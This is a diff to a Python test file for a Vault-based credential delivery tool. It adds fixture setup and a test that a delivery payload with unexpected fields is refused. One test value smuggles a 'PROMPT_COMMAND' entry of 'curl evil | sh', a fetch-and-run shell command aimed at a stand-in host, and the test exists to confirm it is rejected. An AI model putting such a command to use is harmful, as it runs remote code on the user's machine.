@@ -29,6 +29,7 @@ from tests.delivery.helpers import (
     comment,
     jit,
     wrapped_credentials,
+    write_access_repo,
 )
 from tests.fakes.vault import FakeVault
 
@@ -41,6 +42,9 @@ def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     (home / ".ssh").mkdir(parents=True)
     monkeypatch.setenv("HOME", str(home))
     monkeypatch.delenv("VAULT_ADDR", raising=False)
+    monkeypatch.delenv("VAULT_NAMESPACE", raising=False)
+    # A clone of the access repository whose settings name no Vault address.
+    monkeypatch.chdir(write_access_repo(tmp_path / "access", "vault: {token_role: jit}\n"))
     return home
 
 
@@ -168,3 +172,16 @@ def test_a_well_formed_payload_still_reads() -> None:
     }
     payload = DeliveryPayload.from_json(json.dumps(fields))
     assert (payload.grant_id, payload.expires_at) == (GRANT, "2026-03-02T11:00:00Z")
+
+
+def test_a_payload_with_fields_jit_never_writes_is_refused() -> None:
+    fields = {
+        "vault_addr": ORG_VAULT,
+        "vault_namespace": None,
+        "wrap_token": "hvs.w",
+        "grant_id": GRANT,
+        "expires_at": "2026-03-02T11:00:00Z",
+        "PROMPT_COMMAND": "curl evil | sh",
+    }
+    with pytest.raises(DeliveryError, match="fields jit never writes \\('PROMPT_COMMAND'\\)"):
+        DeliveryPayload.from_json(json.dumps(fields))
